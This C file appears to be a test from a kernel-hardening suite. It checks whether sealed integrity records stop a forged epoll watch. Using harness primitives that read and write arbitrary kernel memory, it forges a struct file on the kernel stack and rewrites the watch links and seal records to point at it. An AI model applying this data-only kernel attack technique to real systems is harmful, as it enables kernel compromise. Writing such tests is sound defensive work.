// SPDX-License-Identifier: GPL-2.0-only
#include "attack.h"

#include <linux/eventpoll.h>

ATTACK("cred_integrity", "forged_file", "cred_integrity: a watch of epoll is not the program's own",
       "The program forges an open file in the kernel's ordinary memory, with operations and an "
       "object of its choice, and the record of a watch by which its epoll instance watches that.",
       "What a watch asks stands in a sealed record, which says where it is: what does not lie in "
       "sealed memory is none, and whoever finds a record by ordinary memory asks.",
       "The kernel calls any operation on any object: an empty pipe is ready.");

#define FILE_BYTES 112 /* no less than a struct file has */
#define WATCH_BYTES 512
#define SEAL_BYTES 48
#define SEALED_BYTES 0x40000000ul /* more than the machine has */

static long instance, ends[2];

static long events(void)
{
	struct epoll_event event;

	return call4(__NR_epoll_wait, instance, (long)&event, 1, 0);
}

static bool control(void)
{
	struct epoll_event event = { .events = EPOLLIN };
	int both[2] = { -1, -1 };

	call2(__NR_pipe2, (long)both, 0);
	ends[0] = both[0];
	ends[1] = both[1];
	instance = call1(__NR_epoll_create1, 0);
	return is_ordinary() &&
	       call4(__NR_epoll_ctl, instance, EPOLL_CTL_ADD, ends[0], (long)&event) == 0 &&
	       events() == 0 && call3(__NR_write, ends[1], (long)"x", 1) == 1 && events() == 1;
}

static bool is_seal_for(uint64_t seal, uint64_t file)
{
	if (seal == file || seal - sealed_view() >= SEALED_BYTES)
		return false;
	for (uint64_t i = 0; i < SEAL_BYTES; i += 8)
		if (peek(seal + i) == file)
			return true;
	return false;
}

/* SEAL but for its place and the file that it names, behind the forged file. */
static uint64_t forge_seal(uint64_t seal, uint64_t file, uint64_t forged_file)
{
	const uint64_t forged = forged_file + FILE_BYTES;

	for (uint64_t i = 0; i < SEAL_BYTES; i += 8) {
		const uint64_t word = peek(seal + i);

		poke(forged + i, word == file ? forged_file : word == seal + i ? forged + i : word);
	}
	return forged;
}

/* Near the link by which the file knows its watch. */
static bool lead_watch(uint64_t task, uint64_t forged_file)
{
	const uint64_t file = file_struct(task, (int)ends[0]);
	const uint64_t link = peek(file_state(task, (int)ends[0]) + member("file_state.watches"));
	unsigned int changed = 0;

	for (uint64_t at = link - WATCH_BYTES; at < link + WATCH_BYTES; at += 8) {
		const uint64_t word = peek(at);

		if (word == file)
			poke(at, forged_file);
		else if (is_seal_for(word, file))
			poke(at, forge_seal(word, file, forged_file));
		else
			continue;
		changed++;
	}
	return changed >= 2;
}

/* As /dev/null is: always ready. It lies at the cold end of the program's kernel stack. */
static uint64_t forge(uint64_t task)
{
	const uint64_t real =
		file_struct(task, (int)call3(__NR_open, (long)"/dev/null", O_RDWR, 0));
	const uint64_t forged = peek(task + member("task.stack_top")) - 16000;

	for (uint64_t i = 0; i < FILE_BYTES; i += 8)
		poke(forged + i, peek(real + i));
	poke(forged + member("file.record"), forged + member("file.record"));
	return forged;
}

static bool fire(void)
{
	const uint64_t task = own_task();
	char byte;
	long count;

	if (!lead_watch(task, forge(task)))
		return false;
	count = call3(__NR_read, ends[0], (long)&byte, 1); /* empty again */
	return count == 1 && events() == 1;
}

static void victim(void)
{
	victim_waits();
}
